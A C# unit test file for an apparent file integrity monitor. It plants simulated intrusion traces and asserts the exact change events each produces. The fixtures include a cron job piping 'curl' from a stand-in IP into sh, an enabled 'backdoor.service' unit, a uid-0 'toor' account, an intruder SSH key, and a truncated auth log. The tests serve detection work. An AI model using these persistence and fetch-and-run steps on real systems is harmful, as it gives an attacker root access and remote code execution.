using Bulwark.Scanners.Integrity.Tests.Support;

namespace Bulwark.Scanners.Integrity.Tests.Checking;

/// <summary>The scripted set of changes against the built-in policy, with the exact events each must produce.</summary>
public sealed class ScriptedChangesTests : IDisposable
{
    private readonly ServerTree _tree = new();

    public void Dispose() => _tree.Dispose();

    [Fact]
    public void An_untouched_tree_checks_clean()
    {
        Fim.Init(_tree.Target);

        var check = Fim.Check(_tree.Target);

        Assert.Empty(check.Findings);
        Assert.Empty(check.Errors);
        Assert.Contains(check.Notes, n => n.Message.Contains("0 changes", StringComparison.Ordinal));
    }

    [Fact]
    public void Each_scripted_change_is_reported_as_what_it_means_and_nothing_else_is()
    {
        Fim.Init(_tree.Target);

        _tree.Write("/etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\n");            // edit
        _tree.Write("/usr/bin/netcat", "ELF nc\n", 0b111_101_101);                                      // add
        File.Delete(_tree.Host("/etc/motd"));                                                           // delete
        _tree.Mode("/etc/hostname", 0b110_110_110);                                                     // chmod
        _tree.Owner("/usr/sbin/sshd", 1000, 1000);                                                      // chown
        File.WriteAllText(_tree.Host("/var/log/auth.log"), "");                                         // truncate a log
        _tree.Append("/var/log/syslog", "Nov 22 10:05:00 web-1 CRON[9]: (root) CMD (true)\n");          // append: no event
        _tree.Mode("/usr/bin/tool", 0b100_111_101_101);                                                 // add SUID
        _tree.Write("/etc/systemd/system/backdoor.service", "[Service]\nExecStart=/tmp/.x\n");          // add a unit...
        _tree.Link("/etc/systemd/system/multi-user.target.wants/backdoor.service", "/etc/systemd/system/backdoor.service"); // ...and enable it
        _tree.Append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n");                                   // add a passwd line
        _tree.Append("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGYm1Y3ATQpz1pG/0ZzZ0zQhOWqd1KZ5sTFCw8Tz9oGz intruder\n");
        _tree.Append("/var/lib/dpkg/status", ServerTree.Stanza("netcat-traditional", "1.10-47"));      // add a dpkg stanza
        _tree.Write("/etc/cron.d/update", "*/5 * * * * root curl -s http://198.51.100.7/x | sh\n");     // add a cron job

        var check = Fim.Check(_tree.Target);

        Assert.Empty(check.Errors);
        Assert.Equal(
            [
                ("added", "/etc/cron.d"),
                ("added", "/etc/systemd/system/multi-user.target.wants"),
                ("added", "/usr/bin/netcat"),
                ("log-shrunk", "/var/log/auth.log"),
                ("modified", "/etc/ssh/sshd_config"),
                ("new-authorized-key", "/root/.ssh/authorized_keys"),
                ("new-cron-job", "/etc/cron.d/update"),
                ("new-service", "/etc/systemd/system/backdoor.service"),
                ("new-service", "/etc/systemd/system/multi-user.target.wants/backdoor.service"),
                ("new-suid", "/usr/bin/tool"),
                ("new-user", "/etc/passwd"),
                ("owner", "/usr/sbin/sshd"),
                ("package-installed", "/var/lib/dpkg/status"),
                ("permissions", "/etc/hostname"),
                ("removed", "/etc/motd"),
            ],
            check.Changes.ToList());
    }

    [Fact]
    public void Details_say_what_changed_with_old_and_new_values()
    {
        Fim.Init(_tree.Target);
        _tree.Append("/etc/passwd", "toor:x:0:0::/root:/bin/bash\n");
        _tree.Mode("/usr/bin/tool", 0b100_111_101_101);
        _tree.Owner("/usr/sbin/sshd", 1000, 1000);
        File.WriteAllText(_tree.Host("/var/log/auth.log"), "");

        var findings = Fim.Check(_tree.Target).Findings.ToDictionary(f => f.Change!.Kind);

        Assert.Equal("user: - -> toor, uid: - -> 0, gid: - -> 0, home: - -> /root, shell: - -> /bin/bash", Fim.Details(findings["new-user"]));
        Assert.Contains("uid 0", findings["new-user"].Message, StringComparison.Ordinal);
        Assert.Equal("mode: 0755 -> 4755", Fim.Details(findings["new-suid"]));
        Assert.Equal("owner: 0 -> 1000, group: 0 -> 1000", Fim.Details(findings["owner"]));
        Assert.Equal("size: 68 -> 0", Fim.Details(findings["log-shrunk"]));
        Assert.Equal(Sdk.Severity.High, findings["log-shrunk"].Severity);
        Assert.Equal("integrity/new-suid", findings["new-suid"].RuleId);
    }

    [Fact]
    public void Update_accepts_the_current_state_and_records_who_and_why()
    {
        Fim.Init(_tree.Target);
        _tree.Append("/etc/passwd", "bob:x:1001:1001::/home/bob:/bin/bash\n");

        var updated = FimBaselines.Update(_tree.Target, null, "carol", "ticket OPS-12: bob joins the team", "test", CancellationToken.None);

        Assert.Equal(1, updated.Summary!.Accepted["new-user"]);
        Assert.Empty(Fim.Check(_tree.Target).Findings);
        Assert.Contains(Fim.Check(_tree.Target).Notes, n => n.Message.Contains("accepted by carol", StringComparison.Ordinal));
    }

    [Fact]
    public void A_file_replaced_by_a_named_pipe_is_a_type_change_and_the_pipe_is_never_opened()
    {
        Fim.Init(_tree.Target);
        File.Delete(_tree.Host("/etc/hostname"));
        ServerTree.Run("mkfifo", _tree.Host("/etc/hostname"));

        var check = Fim.Check(_tree.Target);

        var change = Assert.Single(check.Findings);
        Assert.Equal("type-changed", change.Change!.Kind);
        Assert.Equal("type: file -> named pipe", Fim.Details(change));
    }
}
